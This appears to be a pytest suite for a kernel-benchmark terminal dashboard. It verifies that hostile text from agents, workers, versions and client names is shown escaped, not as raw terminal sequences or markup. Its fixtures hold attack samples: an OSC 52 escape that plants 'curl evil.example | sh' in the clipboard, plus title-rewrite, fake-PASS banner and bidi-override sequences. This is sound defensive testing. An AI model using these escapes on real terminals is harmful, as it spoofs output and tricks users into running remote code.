"""Text from versions, agents, workers and imports on every screen of the real dashboard: control and escape
characters written out, never markup, long text cut before it is laid out; and keys act on what is highlighted."""

from __future__ import annotations

import base64
import io
import re
import sqlite3
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from rich.text import Text
from textual.command import CommandPalette
from textual.worker import WorkerState

from harness.contract.results import Evaluation, Flag, RungResult
from harness.contract.text import printable
from kerneltui.core.judging import runner
from kerneltui.core.workspace import Workspace
from kerneltui.history.store import Store
from kerneltui.ui.app import KernelTUI
from kerneltui.ui.screens.leaderboard import LeaderboardScreen
from kerneltui.ui.screens.source import SourceScreen
from kerneltui.ui.widgets.format import LINE_CHARS, shown
from kerneltui.ui.widgets.problems import ProblemTable
from kerneltui.ui.widgets.text_view import TextView
from kerneltui.ui.widgets.versions import VersionTable
from tests import dashboard_fixtures
from tests.conftest import FIXTURES, VERSIONS
from tests.dashboard_fixtures import judged
from tests.test_dashboard import wait_for

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
RETITLE = "\x1b]2;pwned\x07\x1b]0;pwned\x07"
BANNER = "\x1b[2J\x1b[H\x1b[42;30mPASS - approved by you\x1b[0m"
MARKUP = "[bold red]PASS[/] [/]"
BIDI = "\u202eevil\u202c\u2066x\u2069"
HOSTILE = RETITLE + CLIPBOARD + BANNER + " " + MARKUP + " " + BIDI + "\x9b2J\r\x08"
# What a terminal must never receive raw: C0 but newline, DEL, C1, bidirectional overrides and isolates.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ODD_PROBLEM = "[red]p\x1b]2;x\x07\u202e"


def screen_text(app: KernelTUI) -> str:
    """What the terminal would be sent for the whole screen (toasts and dialogs included), styles left out."""
    width, height = app.size
    console = Console(width=width, height=height, file=io.StringIO(), force_terminal=True, record=True)
    console.print(app.screen._compositor.render_update(full=True, screen_stack=app._background_screens))
    return console.export_text(styles=False)


def assert_safe(text: str) -> None:
    raw = RAW.search(text)
    assert raw is None, f"raw {raw.group()!r} at {raw.start()}: {text[max(0, raw.start() - 60) : raw.end() + 60]!r}"


def docstring_version(hostile: str) -> str:
    """good.py with `hostile` as its docstring, written with Python escapes (every byte of the file printable) and
    a source comment holding the same bytes raw."""
    body = (VERSIONS / "good.py").read_text().split('"""', 2)[2]
    escaped = hostile.encode("unicode_escape").decode("ascii").replace('"', '\\"')
    return f'"""{escaped}"""\n# {hostile}\n{body}'


def hostile_evaluation(store: Store, workspace: Workspace, path: Path, text: str, author: str = "") -> None:
    """A version judged with hostile text wherever a worker or a flag can put it, and a planted SASS listing."""
    path.write_text(text)
    version_id, digest, problem = runner.record_version(store, workspace, path, author)
    evaluation_id = store.start_evaluation(version_id, problem, path.stem, digest, status="queued")
    dumps = workspace.state / "dumps" / problem / path.stem / digest[:12]
    dumps.mkdir(parents=True, exist_ok=True)
    (dumps / "add_kernel.sass").write_text(dashboard_fixtures.SASS.format(path=path) + f"// {HOSTILE}\n")
    rungs = dashboard_fixtures.rungs_for("pass", 50.0, dumps)
    rungs[2] = RungResult("correctness", ok=False, seconds=0.1, err=HOSTILE, log=HOSTILE)
    ev = Evaluation(problem=problem, version=path.stem, path=str(path), hash=digest, rungs=rungs)
    ev.flags = [Flag(name="uses-library", reason=f"the worker said {HOSTILE!s}")]
    ev.finish()
    store.finish_evaluation(evaluation_id, ev)


def hostile_agent(store: Store, problem: str) -> None:
    session = store.start_agent_session(problem, "acp", f"agent {HOSTILE}", 0)
    events: list[tuple[str, str, dict[str, Any]]] = [
        ("start", HOSTILE, {}),
        ("text", HOSTILE, {}),
        ("thought", HOSTILE, {}),
        ("plan", HOSTILE, {"entries": [{"content": HOSTILE, "status": "pending"}]}),
        ("tool_call", HOSTILE, {"tool": HOSTILE}),
        ("tool_result", HOSTILE, {"tool": "other", "ok": False}),
        ("permission", HOSTILE, {}),
        (HOSTILE, HOSTILE, {}),
        ("stop", "[/]", {}),
    ]
    for kind, text, data in events:
        store.add_agent_event(session, problem, kind, text, data)
    store.update_agent_session(session, ended="x", stop_reason=f"its stderr: [/] {HOSTILE}")
    run = store.start_bench_run("suite [/]", {"ps": [0.0, 1.0]})
    entry = store.add_bench_entry(run, problem, HOSTILE, HOSTILE, problem)
    store.update_bench_entry(entry, session_id=session, stop_reason=f"[/] {HOSTILE}", started="x", ended="y")


@pytest.fixture
def hostile(tmp_path: Path) -> Workspace:
    """vadd with v005 full of hostile text and an agent's transcript full of it; a problem folder named with it."""
    workspace = dashboard_fixtures.build(tmp_path / "ws")
    store = Store.open(workspace.db_path).store
    hostile_evaluation(store, workspace, workspace.root / "vadd" / "v005.py", docstring_version(HOSTILE), HOSTILE)
    hostile_agent(store, "vadd")
    store.close()
    return workspace


def add_odd_problem(workspace: Workspace) -> None:
    odd = workspace.root / ODD_PROBLEM
    odd.mkdir()
    (odd / "problem.py").write_text((FIXTURES / "vadd" / "problem.py").read_text())
    store = Store.open(workspace.db_path).store
    judged(store, workspace, odd / "v001.py", docstring_version(HOSTILE), "pass", 60.0)
    store.close()


def versions(app: KernelTUI) -> VersionTable:
    return app.query_one("#versions", VersionTable)


async def show_version(app: KernelTUI, pilot: Any, name: str) -> None:
    await wait_for(lambda: name in versions(app).order, pilot)
    versions(app).move_cursor(row=versions(app).order.index(name))
    await wait_for(lambda: app.detail is not None and app.detail.version["name"] == name, pilot)


PANES = {  # key pressed, the view, what shows there written out
    "rungs": ("1", "#rungs-view", "\\x1b]52;c;"),
    "logs": ("enter", "#rungs-view", "── correctness log ──"),
    "diff": ("2", "#diff-view", "\\x1b]2;pwned"),
    "asm": ("4", "#asm-view", "// \\x1b]2;pwned"),
    "agent": ("5", "#agent-view", "[bold red]PASS[/]"),
}


@pytest.mark.parametrize("pane", [*PANES, "source", "notification"])
async def test_hostile_text_is_written_out_and_never_markup(hostile: Workspace, pane: str) -> None:
    app = KernelTUI(hostile, run_scheduler=False)
    async with app.run_test(size=(200, 60)) as pilot:
        await show_version(app, pilot, "v005")
        if pane in PANES:
            key, view, wanted = PANES[pane]
            if pane == "logs":
                app.query_one(view).focus()
            await pilot.press(key)
            shown_in = app.query_one(view, TextView)
            await wait_for(lambda: wanted in shown_in.plain, pilot)
            assert_safe(shown_in.plain)
            assert "[bold red]PASS[/]" in shown_in.plain and "\\u202e" in shown_in.plain
        elif pane == "source":
            await pilot.press("v")
            await wait_for(lambda: isinstance(app.screen, SourceScreen), pilot)
            assert "\\x1b]52;c;" in app.screen.query_one(TextView).plain
        else:
            app.notify(HOSTILE, markup=True)  # a notification is text too, whatever its caller asked
        await pilot.pause()
        assert_safe(screen_text(app))
        assert app.is_running


async def test_a_problem_folder_named_with_escapes_and_markup_shows_written_out(hostile: Workspace) -> None:
    add_odd_problem(hostile)
    app = KernelTUI(hostile, run_scheduler=False)
    async with app.run_test(size=(200, 60)) as pilot:
        problems = app.query_one("#problems", ProblemTable)
        await wait_for(lambda: ODD_PROBLEM in problems.names, pilot)
        app.select_problem(ODD_PROBLEM)
        await wait_for(lambda: app.snapshot.problem == ODD_PROBLEM and bool(versions(app).order), pilot)
        await pilot.pause()
        text = screen_text(app)
        assert_safe(text)
        assert printable(ODD_PROBLEM) in text


async def test_the_command_palette_shows_a_problem_folders_name_written_out(hostile: Workspace) -> None:
    add_odd_problem(hostile)
    app = KernelTUI(hostile, run_scheduler=False)
    async with app.run_test(size=(200, 60)) as pilot:
        await wait_for(lambda: any(p["name"] == ODD_PROBLEM for p in app.snapshot.problems), pilot)
        app.action_command_palette()
        await wait_for(lambda: isinstance(app.screen, CommandPalette), pilot)
        await pilot.press(*"open problem")
        await wait_for(lambda: printable(ODD_PROBLEM) in screen_text(app), pilot)
        assert_safe(screen_text(app))
        assert app.is_running


async def test_L_with_markup_in_a_stop_reason_keeps_the_dashboard_up(hostile: Workspace) -> None:
    app = KernelTUI(hostile, run_scheduler=False)
    async with app.run_test(size=(200, 60)) as pilot:
        await wait_for(lambda: bool(versions(app).order), pilot)
        await pilot.press("L")
        await wait_for(lambda: isinstance(app.screen, LeaderboardScreen), pilot)
        panel = app.screen.query_one("#board")
        await wait_for(lambda: "suite [/]" in screen_text(app), pilot)
        await pilot.pause()
        assert app.is_running
        text = screen_text(app)
        assert_safe(text)
        assert "[/]" in text and panel is not None
        await pilot.press("escape")
        assert app.is_running


def test_shown_cuts_a_long_line_before_it_is_laid_out() -> None:
    line = shown("x" * 1_000_000)
    assert len(line.plain) < LINE_CHARS + 80 and "cut" in line.plain and "998,000" in line.plain
    styled = Text("a\x1bb", style="bold")
    styled.stylize("red", 1, 3)
    written = shown(styled)
    assert written.plain == "a\\x1bb" and [(s.start, s.end) for s in written.spans] == [(1, 6)]


async def test_a_one_megabyte_line_is_shown_cut(tmp_path: Path) -> None:
    workspace = dashboard_fixtures.build(tmp_path / "ws")
    store = Store.open(workspace.db_path).store
    long = "y" * 1_000_000
    text = docstring_version(long).replace(f"# {long}\n", f"X = '{'z' * 1_000}'\n")
    judged(store, workspace, workspace.root / "vadd" / "v005.py", text, "pass", 50.0)
    store.close()
    app = KernelTUI(workspace, run_scheduler=False)
    async with app.run_test(size=(160, 48)) as pilot:
        await show_version(app, pilot, "v005")
        rungs = app.query_one("#rungs-view", TextView)
        await wait_for(lambda: "v005" in rungs.plain, pilot)
        assert max(len(line) for line in rungs.lines) < LINE_CHARS + 80 and "cut" in rungs.plain
        await pilot.press("2")
        diff = app.query_one("#diff-view", TextView)
        await wait_for(lambda: "+++ v005" in diff.plain, pilot)
        assert max(len(line) for line in diff.lines) < LINE_CHARS + 80 and "cut" in diff.plain
        await pilot.press("v")
        await wait_for(lambda: isinstance(app.screen, SourceScreen), pilot)
        source = app.screen.query_one(TextView)
        assert max(len(line) for line in source.lines) < LINE_CHARS + 80 and "cut" in source.plain
        assert len(versions(app).rows_by_key["v005"]["notes"]) == 1_000_000  # the history keeps it whole


def two_problems(root: Path) -> Workspace:
    """vadd (four versions) and wadd (one, v001 only): the versions shown tell which problem they belong to."""
    workspace = dashboard_fixtures.build(root)
    other = root / "wadd"
    other.mkdir()
    (other / "problem.py").write_text((FIXTURES / "vadd" / "problem.py").read_text())
    store = Store.open(workspace.db_path).store
    judged(store, workspace, other / "v001.py", (VERSIONS / "good.py").read_text(), "pass", 70.0)
    store.close()
    return workspace


def shown_problem(app: KernelTUI) -> str:
    return "vadd" if len(versions(app).order) == 4 else "wadd" if versions(app).order == ["v001"] else "?"


def busy(app: KernelTUI, group: str) -> bool:
    return any(w.group == group and w.state in (WorkerState.PENDING, WorkerState.RUNNING) for w in app.workers)


async def test_at_80x24_the_versions_shown_are_the_highlighted_problems_and_keys_act_on_it(tmp_path: Path) -> None:
    """The person moves between problems faster than their versions are read, and the terminal is resized meanwhile:
    a reading for a problem already left must not take the view, and keys act on the problem highlighted."""
    workspace = two_problems(tmp_path / "ws")
    app = KernelTUI(workspace, run_scheduler=False)
    gate, held, done = threading.Event(), threading.Event(), threading.Event()
    armed = False
    read_view = app.session.read_view

    def slow_for_vadd(store: Any, problem: str | None) -> Any:
        if armed and problem == "vadd" and not held.is_set():
            held.set()
            gate.wait(60)
            view = read_view(store, problem)
            done.set()
            return view
        return read_view(store, problem)

    app.session.read_view = slow_for_vadd  # type: ignore[method-assign]
    async with app.run_test(size=(80, 24)) as pilot:
        problems = app.query_one("#problems", ProblemTable)
        await wait_for(lambda: problems.names == ["vadd", "wadd"] and shown_problem(app) == "vadd", pilot)
        problems.focus()
        await pilot.press("j")
        await wait_for(lambda: shown_problem(app) == app.snapshot.problem == "wadd", pilot)
        armed = True
        await pilot.press("k")  # vadd highlighted; its versions still being read
        await wait_for(held.is_set, pilot)
        await pilot.resize_terminal(120, 30)
        await pilot.press("a")  # wadd's versions are shown, vadd is highlighted: nothing to approve yet
        await pilot.resize_terminal(80, 24)
        await pilot.press("j")  # back on wadd before vadd's reading came back
        gate.set()
        await wait_for(done.is_set, pilot)
        await wait_for(lambda: not busy(app, "snapshot"), pilot)
        await pilot.pause()
        assert app.snapshot.problem == problems.selected == shown_problem(app) == "wadd", (
            app.snapshot.problem,
            problems.selected,
            shown_problem(app),
        )
        versions(app).focus()
        await pilot.press("a")
        await wait_for(lambda: verdicts(workspace) != [] and not busy(app, "write"), pilot)
        assert verdicts(workspace) == [("wadd", "v001", "approved")]


def verdicts(workspace: Workspace) -> list[tuple[str, str, str]]:
    with sqlite3.connect(workspace.db_path) as db:
        return db.execute("SELECT problem, version, verdict FROM verdicts").fetchall()


def test_an_agents_stderr_is_kept_written_out(tmp_path: Path) -> None:
    """What an ACP agent wrote on its stderr becomes its stop reason: escapes the colour filter does not know (an OSC
    ended by ST, an 8-bit CSI, a bare ESC) are written out before it is stored."""
    from agents.acp import said_on_stderr

    log = tmp_path / "agent.log"
    log.write_text(f"fatal: {CLIPBOARD[:-1]}\x1b\\ then \x9b2J \x1b[?1049h \x1b7 [/] {BIDI}\n")
    tail = said_on_stderr(log)
    assert RAW.search(tail.replace("\n", " ")) is None, tail
    assert "fatal:" in tail and "[/]" in tail and "\\x9b2J" in tail


@pytest.mark.slow
@pytest.mark.timeout(180)
async def test_an_mcp_clients_name_is_stored_printable(tmp_path: Path) -> None:
    """The name an MCP client gives itself becomes its session's model and its versions' author."""
    from mcp.client import ClientSession
    from mcp.client.stdio import StdioServerParameters, stdio_client
    from mcp_types import Implementation

    from tests.conftest import REPO, make_workspace
    from tests.test_mcp import server_args

    workspace = make_workspace(tmp_path / "ws").parent
    params = StdioServerParameters(command=sys.executable, args=server_args(workspace), cwd=REPO)
    with open(tmp_path / "mcp-server.log", "a") as errlog:
        async with (
            stdio_client(params, errlog=errlog) as (read, write),
            ClientSession(read, write, client_info=Implementation(name=HOSTILE, version="1")) as session,
        ):
            await session.initialize()
            done = await session.call_tool("read_file", {"problem": "vadd", "path": "vadd/problem.py"})
            assert not done.is_error
    with sqlite3.connect(workspace / ".kerneltui" / "history.db") as db:
        models = [row[0] for row in db.execute("SELECT model FROM agent_sessions")]
    assert models and all(RAW.search(m) is None and "\\x1b]52;c;" in m for m in models), models


def test_a_tool_result_with_odd_line_numbers_is_summed_up() -> None:
    """A superscript digit or 5,000 digits where a line number goes made int() raise: every reading of the
    transcript failed, and the dashboard's view stopped following the history."""
    from kerneltui.ui.widgets.agent import event_lines

    text = "² x\n" + "9" * 5_000 + " y\n  3  z"
    lines = event_lines({"kind": "tool_result", "text": text, "data": {"tool": "read_file", "ok": True}}, 80)
    assert "read lines 3-3" in lines[0].plain


AGENT_NAMED = """
import runpy
import sys

import acp.schema


class Named(acp.schema.Implementation):  # the scripted agent, giving itself another name
    def __init__(self, **fields):
        super().__init__(**{{**fields, "name": {name!r}}})


acp.schema.Implementation = Named
sys.argv = [{fixture!r}]
runpy.run_path({fixture!r}, run_name="__main__")
"""


@pytest.mark.slow
@pytest.mark.timeout(120)
async def test_an_acp_agents_name_is_kept_printable(tmp_path: Path) -> None:
    """The name and version an ACP agent gives in its initialize answer become its model: the status line's and a
    bench's."""
    from acp import spawn_agent_process

    from agents.acp import MAX_NAME, AcpAgent, _Client

    wrapper = tmp_path / "named_agent.py"
    wrapper.write_text(AGENT_NAMED.format(name=HOSTILE, fixture=str(FIXTURES / "acp_agent.py")))
    agent = AcpAgent(command=[sys.executable, str(wrapper)])
    # no host: an agent sends no session update before session/new
    client: Any = _Client(agent, None)  # type: ignore[arg-type]
    async with spawn_agent_process(client, sys.executable, str(wrapper), cwd=tmp_path) as (conn, _):
        await agent._start_session(conn, None, tmp_path)  # type: ignore[arg-type]
    assert RAW.search(agent.model) is None and "\\x1b]52;c;" in agent.model, agent.model
    assert len(agent.model) <= 6 * MAX_NAME  # cut, then each character written out in at most six
